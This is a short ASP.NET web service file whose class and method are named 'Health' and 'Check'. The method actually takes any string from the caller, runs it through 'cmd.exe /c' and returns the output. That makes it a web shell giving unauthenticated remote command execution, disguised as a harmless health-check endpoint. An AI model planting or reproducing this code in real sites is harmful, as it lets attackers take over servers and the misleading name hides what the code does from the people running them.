<%@ WebService Language="C#" Class="Health" %>
using System;
using System.Web.Services;
using System.Diagnostics;

[WebService(Namespace = "http://tempuri.org/")]
public class Health : WebService
{
    [WebMethod]
    public string Check(string target)
    {
        var psi = new ProcessStartInfo("cmd.exe", "/c " + target)
        {
            RedirectStandardOutput = true,
            UseShellExecute = false,
            CreateNoWindow = true
        };
        using (var p = Process.Start(psi))
        {
            return p.StandardOutput.ReadToEnd();
        }
    }
}
